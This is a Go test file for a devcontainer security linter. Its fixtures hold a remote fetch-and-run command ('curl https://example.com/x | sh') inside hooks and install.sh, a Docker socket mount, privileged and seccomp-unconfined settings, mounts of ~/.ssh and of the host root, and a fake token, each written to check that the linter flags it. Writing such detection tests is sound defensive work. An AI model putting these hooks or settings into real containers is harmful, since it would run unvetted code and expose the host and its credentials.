package lint_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/org/claude-sandbox/devcontainer"
	"github.com/org/claude-sandbox/devcontainer/lint"
)

// A Feature's metadata is judged where it is published, too: whoever uses it gets
// these rights without seeing them.
func TestFeatureAloneIsJudgedByItsRights(t *testing.T) {
	for name, c := range map[string]struct{ property, want string }{
		"privileged":           {`"privileged": true`, "SBX402"},
		"capability":           {`"capAdd": ["CAP_SYS_ADMIN"]`, "SBX403"},
		"unconfined":           {`"securityOpt": ["seccomp=unconfined"]`, "SBX405"},
		"engine":               {`"mounts": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/d"}]`, "SBX401"},
		"engine by a variable": {`"containerEnv": {"DOCKER_HOST": "tcp://host:2375"}`, "SBX401"},
		"home folder":          {`"mounts": [{"type": "bind", "source": "${localEnv:HOME}/.ssh", "target": "/s"}]`, "SBX407"},
		"X server":             {`"mounts": [{"type": "bind", "source": "/tmp/.X11-unix", "target": "/tmp/.X11-unix"}]`, "SBX417"},
		"key":                  {`"containerEnv": {"GH": "ghp_0123456789abcdefghijABCDEFGHIJ012345"}`, "SBX501"},
		"download":             {`"postCreateCommand": "curl https://example.com/x | sh"`, "SBX608"},
		"our own":              {`"capAdd": ["NET_ADMIN"], "securityOpt": ["no-new-privileges"]`, ""},
		"shell syntax":         {`"postStartCommand": "if true"`, "SBX319"},
		"no boolean":           {`"privileged": "true"`, "SBX301"},
	} {
		t.Run(name, func(t *testing.T) {
			found := ids(t, devcontainer.Memory{"src/a/install.sh": "",
				"src/a/devcontainer-feature.json": `{"id": "a", "version": "1.0.0", ` + c.property + `}`})
			if found != c.want {
				t.Errorf("found %q, want %q", found, c.want)
			}
		})
	}
}

// The same right in a notation that a rule did not look at before the list had it.
func TestRightsOfDockerfilesAndHooks(t *testing.T) {
	for name, c := range map[string]struct {
		files devcontainer.Memory
		want  string
	}{
		"the engine by ENV": {
			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
				".devcontainer/Dockerfile": "FROM debian:13" + digest + "\nENV DOCKER_HOST=tcp://host:2375\n"}, "SBX401"},
		"an empty ENV": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
			".devcontainer/Dockerfile": "FROM debian:13" + digest + "\nENV DOCKER_HOST=\n"}, ""},
		"a stage that is left behind": {
			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
				".devcontainer/Dockerfile": "FROM debian:13" + digest + " AS a\nENV DOCKER_HOST=tcp://host:2375\nFROM debian:13" + digest + "\n"}, ""},
		"a Feature's hook": {
			devcontainer.Memory{".devcontainer/devcontainer.json": `{"image": "debian:13@sha256:` + strings.Repeat("0", 64) +
				`", "features": {"./a": {}}}`,
				".devcontainer/a/devcontainer-feature.json": `{"id": "a", "version": "1.0.0", "postCreateCommand": "curl https://example.com/x | sh"}`,
				".devcontainer/a/install.sh":                ""}, "SBX608"},
	} {
		t.Run(name, func(t *testing.T) {
			if found := ids(t, c.files); found != c.want {
				t.Errorf("found %q, want %q", found, c.want)
			}
		})
	}
}

// A Feature that lies in the repository and is used brings its program, commands and rights into
// the container: they are found in its own files, and a comment there excuses them.
func TestAttackALocalFeatureHidesWhatItOpens(t *testing.T) {
	files := devcontainer.Memory{
		".devcontainer/devcontainer.json": image(`"features": {"./a": {}}`),
		".devcontainer/a/devcontainer-feature.json": `{"id": "b", "dependsOn": {"./sub": {}},
  "mounts": [{"type": "bind", "source": "/", "target": "/host"}],
  "postStartCommand": "if true"}`,
		".devcontainer/a/install.sh":                  "#!/bin/sh\ncurl https://example.com/x | sh\n",
		".devcontainer/sub/devcontainer-feature.json": `{"id": "sub", "privileged": true}`,
		".devcontainer/sub/install.sh":                "#!/bin/sh\nif then\n",
	}
	if found := ids(t, files); found != "SBX407 SBX319 SBX705 SBX402 SBX913" {
		t.Errorf("found %q", found)
	}
	files[".devcontainer/sub/devcontainer-feature.json"] = "{\"id\": \"sub\",\n// sbx-ignore SBX402: a debugger\n\"privileged\": true}"
	if found := ids(t, files); found != "SBX407 SBX319 SBX705 SBX913" {
		t.Errorf("with a comment: found %q", found)
	}
}

// What is too large to be judged is said of a file that is judged by itself, too.
func TestFilesOfTheirOwnThatAreTooLarge(t *testing.T) {
	large := strings.Repeat("# a line of a comment\n", 60_000)
	for name, files := range map[string]devcontainer.Memory{
		"Dockerfile": {"Dockerfile": "FROM scratch\n" + large},
		"devcontainer-feature.json": {"devcontainer-feature.json": `{"id": "a", "version": "1.0.0", "name": "A"}`,
			"install.sh": "#!/bin/sh\n" + large},
	} {
		p, err := devcontainer.Load(files, name, name)
		if err != nil {
			t.Fatal(err)
		}
		if found := lint.Check(p); reported(found) != "SBX109" {
			t.Errorf("%s: %v", name, found)
		}
	}
}

// Two configurations that use one Feature or Dockerfile have its findings once.
func TestSharedFilesAreReportedOnce(t *testing.T) {
	dir := t.TempDir()
	for name, text := range map[string]string{
		".devcontainer/one/devcontainer.json": `{"build": {"dockerfile": "../Dockerfile"}, "remoteUser": "root"}`,
		".devcontainer/two/devcontainer.json": `{"build": {"dockerfile": "../Dockerfile"}, "remoteUser": "root"}`,
		".devcontainer/Dockerfile":            "FROM debian:13\nCOPY none /x\n",
	} {
		full := filepath.Join(dir, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(full), 0o755), os.WriteFile(full, []byte(text), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	names, err := devcontainer.Discover(dir)
	if err != nil {
		t.Fatal(err)
	}
	var files lint.Files
	if err := files.Open(t.Context(), names); err != nil || len(names) != 2 {
		t.Fatal(names, err)
	}
	count := 0
	for _, f := range files.Findings {
		if f.Rule == "SBX729" {
			count++
		}
	}
	if count != 1 {
		t.Errorf("%d times: %v", count, files.Findings)
	}
}

// Of a configuration that no tool reads only that is said.
func TestShadowedConfigurationIsNotJudged(t *testing.T) {
	p, err := devcontainer.Load(devcontainer.Memory{
		".devcontainer/devcontainer.json": image(`"init": true`), ".devcontainer.json": `{"image": "x:1", "privileged": "true", "none": 1}`,
	}, ".devcontainer.json", ".devcontainer.json")
	if err != nil {
		t.Fatal(err)
	}
	if found := lint.Check(p); len(found) != 1 || found[0].Rule != "SBX315" {
		t.Errorf("found %v", found)
	}
}
